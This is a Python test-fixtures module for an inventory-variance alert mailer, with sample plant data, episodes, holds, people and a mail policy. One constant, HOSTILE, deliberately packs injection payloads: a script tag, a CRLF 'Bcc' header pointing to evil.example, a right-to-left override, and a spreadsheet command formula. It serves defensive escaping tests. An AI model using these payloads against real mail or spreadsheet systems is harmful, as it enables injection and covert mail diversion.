"""The three variances of users.md 3.4 and a hostile one, as fixtures for the tests of alerts."""

from collections.abc import Callable
from dataclasses import replace
from datetime import date, datetime, timedelta
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest

from alerts.digest import Digest, PlanNotice, digests
from alerts.policy import DayFigure, MailPolicy, RuleLine
from bridge.domain.episode import Episode, EpisodeState
from bridge.domain.hold import Hold, HoldOrder, HoldState, hold_ref
from bridge.domain.people import Person
from bridge.domain.quantity import multiply, to_micro
from bridge.domain.report import RunReport, SourceReading
from bridge.domain.variance import Cause, DocumentRef, Position, Presence, Variance, percent_of

NOW = datetime(2026, 11, 23, 8, 30, tzinfo=ZoneInfo("Asia/Shanghai"))
AS_OF = NOW - timedelta(minutes=2)


def _document(source: str, kind: str, number: str, effect: str, why: str) -> DocumentRef:
    return DocumentRef(
        source, kind, number, "1", to_micro(effect), "saved" if why in {"unaudited", "grace"} else "audited", why
    )


def _variance(position: Position, book: str, stock: str, explained: str, cost: str | None, **rest: object) -> Variance:
    book_steps, stock_steps, explained_steps = to_micro(book), to_micro(stock), to_micro(explained)
    remainder = stock_steps - book_steps - explained_steps
    price = None if cost is None else to_micro(cost)
    return Variance(
        position=position,
        book=book_steps,
        stock=stock_steps,
        book_presence=Presence.KNOWN,
        stock_presence=Presence.KNOWN,
        explained=explained_steps,
        percent=percent_of(remainder, max(abs(book_steps), abs(stock_steps))),
        value=None if price is None else multiply(abs(remainder), price),
        cost=price,
        cost_source="" if price is None else "K3 标准成本",
        exceeds=True,
        rule="abc A | percent 1 | min_value 100",
        **rest,  # type: ignore[arg-type]
    )


def three_variances() -> list[Variance]:
    """Return copper foil, connector and watch frame with the figures of the sketch."""
    return [
        _variance(
            Position("CU-35", "M01", "", "铜箔", "原料仓", "kg", "原料", "A"),
            "253",
            "379.5",
            "0",
            "78",
            causes=(
                Cause("D4", "medium", (), "同一到货单:U8 入 253.0 kg,财务只入 126.5 kg → 请查送货单"),
                Cause("D6", "low"),
            ),
        ),
        _variance(
            Position("FPC-24P", "M01", "", "", "原料仓", "个", "原料", "A"),
            "18600",
            "17200",
            "0",
            "3.85",
            causes=(Cause("D2", "high", (_document("u8", "材料出库", "CLCK-1123-002", "-1400", "proof"),)),),
        ),
        _variance(
            Position("ZK-2201", "M02", "", "手表中框", "半成品仓", "个", "半成品", "A"),
            "2400",
            "1900",
            "-420",
            "42.5",
            documents=(
                _document("u8", "产成品入库", "CPRK-1123-004", "-300", "unaudited"),
                _document("u8", "销售出库", "XSCK-1123-011", "-120", "grace"),
            ),
            causes=(
                Cause(
                    "D3",
                    "high",
                    (
                        _document("k3", "产品入库", "WIN012231", "-80", "proof"),
                        _document("k3", "产品入库", "WIN012233", "-80", "proof"),
                    ),
                    "WIN012231 与 WIN012233 同一报工单;MES、U8 都只有 1 次",
                ),
            ),
        ),
    ]


def make_episode(variance: Variance, number: int, **changes: object) -> Episode:
    """Return a confirmed episode of wang.fang about `variance`."""
    episode = Episode(
        id=f"V-20261123-{number:03d}",
        pair="fin_wms",
        state=EpisodeState.CONFIRMED,
        variance=variance,
        owner="wang.fang",
        since=AS_OF - timedelta(minutes=30),
        updated_at=AS_OF,
        counted_at=AS_OF,
        first_run=528,
        last_run=529,
        streak=2,
        confirmed_at=AS_OF,
        due_at=NOW.replace(hour=16),
    )
    return replace(episode, **{"due_at": NOW.replace(hour=16, minute=30), **changes})  # type: ignore[arg-type]


def make_hold(episode: Episode, number: int, state: HoldState = HoldState.ACTIVE) -> Hold:
    """Return a hold on an episode's remainder."""
    position = episode.variance.position
    quantity = abs(episode.variance.remainder)
    order = HoldOrder(
        ref=hold_ref(episode.id, "u8", position.item, position.warehouse, position.batch),
        item=position.item,
        warehouse=position.warehouse,
        batch=position.batch,
        operations=("out", "transfer"),
        quantity=quantity,
        reason="",
        expires_at=NOW + timedelta(hours=8),
    )
    return Hold(
        id=f"H-20261123-{number:03d}",
        state=state,
        pair=episode.pair,
        variance=episode.id,
        target="u8",
        item=position.item,
        warehouse=position.warehouse,
        batch=position.batch,
        order=order,
        created_at=NOW,
        updated_at=NOW,
        placed=quantity,
    )


def make_report(episodes: list[Episode], holds: list[Hold], **changes: object) -> RunReport:
    """Return run 529 of the sketch's pair."""
    values = [episode.variance for episode in episodes]
    report = RunReport(
        run=529,
        pair="fin_wms",
        pair_label="财务账 ↔ 仓库",
        as_of=AS_OF,
        mode="hold",
        snapshots=(
            SourceReading(
                "k3", "金蝶K3", AS_OF, AS_OF + timedelta(seconds=9), AS_OF, 1840, admitted=True, blob="a" * 64
            ),
            SourceReading(
                "u8", "用友U8", AS_OF, AS_OF + timedelta(seconds=6), AS_OF, 1842, admitted=True, blob="b" * 64
            ),
        ),
        compared=1842,
        agreeing=1806,
        pending=33,
        confirmed=len(episodes),
        gross_value=sum(v.value or 0 for v in values),
        net_value=sum(v.signed_value or 0 for v in values),
        variances=tuple(episodes),
        holds=tuple(holds),
    )
    return replace(report, **changes)  # type: ignore[arg-type]


PEOPLE = {
    person.id: person
    for person in (
        Person("wang.fang", "王芳", "wangfang@example.com", ("maker",), "财务"),
        Person("li.zong", "李总监", "li@example.com", ("checker", "owner_of_last_resort"), "财务"),
        Person("zhao.lei", "赵磊", "zhaolei@example.com", ("wh_manager",), "仓储"),
        Person("sun.it", "孙工", "it@example.com", ("admin",), "信息"),
        Person("no.mail", "无邮箱", "", ("maker",), "生产"),
    )
}

POLICY = MailPolicy(
    plant="示例精密(东莞)",
    book=("k3",),
    stock=("u8",),
    chain=("owner", "wh_manager", "li.zong"),
    rules=(
        RuleLine("abc", "A", Decimal(1), to_micro(100)),
        RuleLine("abc", "B", Decimal(3), to_micro(200)),
        RuleLine("abc", "C", Decimal(5), to_micro(500)),
    ),
    names={name: person.name for name, person in PEOPLE.items()},
)

DAYS = tuple(
    DayFigure(date(2026, 11, day), to_micro(value))
    for day, value in ((17, 31200), (18, 28500), (19, 30100), (20, 23000), (21, 24600), (22, 20310))
)

HOSTILE = "<script>alert(1)</script>\r\nBcc: x@evil.example\u202e=cmd|'/c calc'!A1 & \"q\" " + "长" * 80


@pytest.fixture
def people() -> dict[str, Person]:
    """Give the people of the sample plant."""
    return dict(PEOPLE)


@pytest.fixture
def policy() -> MailPolicy:
    """Give the sample plant's way of mailing."""
    return POLICY


@pytest.fixture
def days() -> tuple[DayFigure, ...]:
    """Give the unexplained money of the six days before."""
    return DAYS


@pytest.fixture
def now() -> datetime:
    """Half past eight on the day of the sketch."""
    return NOW


@pytest.fixture
def episodes() -> list[Episode]:
    """Give the three variances, confirmed and not mailed."""
    return [make_episode(variance, 3 - number) for number, variance in enumerate(three_variances())]


@pytest.fixture
def holds(episodes: list[Episode]) -> list[Hold]:
    """Give a hold on each."""
    return [make_hold(episode, number) for number, episode in enumerate(episodes, start=1)]


@pytest.fixture
def report(episodes: list[Episode], holds: list[Hold]) -> RunReport:
    """Give the run that found them."""
    return make_report(episodes, holds)


@pytest.fixture
def hold_for() -> Callable[..., Hold]:
    """Make a hold on an episode."""
    return make_hold


@pytest.fixture
def report_of() -> Callable[..., RunReport]:
    """Make a run of episodes and holds."""
    return make_report


@pytest.fixture
def hostile() -> Episode:
    """Give an episode whose every text attacks."""
    text = HOSTILE
    document = DocumentRef(text, text, text, text, 5, text, text)
    position = Position(text, text, text, text, text, text, text, text)
    variance = _variance(
        position, "-20", "0", "0", None, documents=(document,), causes=(Cause(text, text, (document,), text),)
    )
    return make_episode(replace(variance, rule=text, cost_source=text), 9)


@pytest.fixture
def plan_notice(holds: list[Hold], now: datetime) -> PlanNotice:
    """Give twelve wanted holds where ten are allowed."""
    return PlanNotice("P-20261123-001", tuple(holds * 4), "run", 12, 10, now + timedelta(hours=4))


@pytest.fixture
def tell(
    report: RunReport, people: dict[str, Person], policy: MailPolicy, now: datetime
) -> Callable[..., list[Digest]]:
    """Give a function from episodes to digests in the sketch's run; report, people, policy and now may be exchanged."""

    def run(episodes: list[Episode], **changes: object) -> list[Digest]:
        facts = {"report": report, "people": people, "policy": policy, "now": now, **changes}
        return digests(episodes=episodes, **facts)  # type: ignore[arg-type]

    return run
